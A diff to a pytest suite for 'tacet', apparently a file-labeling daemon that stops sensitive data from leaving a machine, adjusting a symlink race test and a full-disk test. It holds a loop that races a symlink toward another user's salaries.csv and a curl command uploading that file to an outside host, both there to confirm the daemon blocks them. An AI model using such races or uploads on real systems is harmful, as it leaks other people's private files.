@@ -6,9 +6,10 @@ import time
 import pytest
 from guest import Guest
 from tacet_cli import Tacet
+from thorough import amount
 
 FAILURE, USAGE, DENIED, NOT_FOUND, PARTIAL, UNPROTECTED = 1, 2, 4, 5, 6, 7
-MANY = 10_000
+MANY = amount(2_000, 10_000)
 # Bound for things that take a moment, with room for a guest that others slow down.
 PATIENCE = 300
 
@@ -61,9 +62,11 @@ def test_link_changed_in_time(scene):
     scene.guest.run("install -o bela -m 600 salaries.csv b; ln -s salaries.csv l", cwd=scene.folder, check=True)
     swap = "while :; do ln -sfn b l; ln -sfn salaries.csv l; done"
     # When the daemon meets the link while it points to the other user's file, the password dialog opens. It ends with the caller.
-    mark = "for i in $(seq 15); do timeout 2 tacet label add l; done >/dev/null 2>&1"
-    scene.run(f"{swap} & {mark}; kill $!")
-    assert scene.tacet.categories(f"{scene.folder}/b") == []
+    mark = "for i in $(seq 60); do timeout 4 tacet label add l; echo $?; done 2>/dev/null"
+    enough = "awk '!/^[0-9]/ { next } { print; n[$1]++ } n[0] >= 5 && n[124] >= 5 { exit }'"
+    statuses = scene.run(f"{swap} & {mark} | {enough}; kill $!", timeout=300).stdout.split()
+    assert min(statuses.count("0"), statuses.count("124")) >= 5, f"the link did not change in time: {statuses}"
+    assert scene.tacet.categories(scene.file) != [] == scene.tacet.categories(f"{scene.folder}/b")
 
 
 def test_many_files(scene):
@@ -94,25 +97,25 @@ def _slowest_answer(scene, attempt):
 
 @pytest.fixture
 def full_disk(guest):
-    """tacetd with a store on a file system that is full."""
+    """A function that fills the file system on which tacetd has its store."""
     guest.run("systemctl stop tacetd && cp -a /var/lib/tacet /run/tacet-store", check=True)
     try:
         guest.run("mount -t tmpfs -o size=$(($(du -s /run/tacet-store | cut -f1) + 2048))k tmpfs /var/lib/tacet"
                   " && cp -a /run/tacet-store/. /var/lib/tacet/ && systemctl start tacetd", check=True)
-        guest.run("cat /dev/zero >/var/lib/tacet/ballast")
-        yield
+        yield lambda: guest.run("cat /dev/zero >/var/lib/tacet/ballast; test $(df --output=avail /var/lib/tacet | tail -1) = 0", check=True)
     finally:
         guest.run("systemctl stop tacetd; umount -l /var/lib/tacet; rm -rf /run/tacet-store; systemctl start tacetd", check=True)
 
 
 def test_full_disk(scene, full_disk):
     """Without room for its store tacetd refuses to promise anything lasting, and still asks and blocks."""
+    scene.label()
+    scene.guest.write(f"{scene.folder}/other", "nothing of the secret", user="anna")
+    full_disk()
     assert scene.tacet.run("rule", "add", "allow", "--host", "remote", check=False).returncode == FAILURE
     assert scene.tacet.rules() == []
-    marked = scene.tacet.run("label", "add", scene.file, check=False).returncode == 0
-    assert bool(scene.tacet.categories(scene.file)) == marked
-    scene.guest.run("rm /var/lib/tacet/ballast", check=True)
-    scene.label()
+    marked = scene.tacet.run("label", "add", f"{scene.folder}/other", check=False).returncode == 0
+    assert bool(scene.tacet.categories(f"{scene.folder}/other")) == marked
     _, done = scene.send_and_answer("curl -sS -m 90 -T salaries.csv http://remote/", "block")
     assert done.returncode != 0
     scene.assert_nothing_leaked()
